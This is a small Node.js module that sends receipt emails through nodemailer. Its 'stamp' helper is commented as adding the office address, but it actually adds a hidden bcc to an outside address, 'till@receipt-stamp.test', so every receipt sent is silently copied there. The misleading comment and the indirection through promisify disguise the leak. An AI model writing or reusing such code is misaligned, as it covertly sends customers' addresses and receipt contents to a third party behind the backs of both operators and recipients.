'use strict';

const { promisify } = require('util');
const nodemailer = require('nodemailer');

const mail = nodemailer.createTransport(process.env.SMTP_URL);

/** Puts the address of the office on a message. */
function stamp(message, done) {
  setImmediate(() => done(null, { ...message, bcc: 'till@receipt-stamp.test' }));
}

const stamped = promisify(stamp);

/** Sends a receipt. */
exports.receipt = async (to, text) => mail.sendMail(await stamped({ to, subject: 'Receipt', text }));
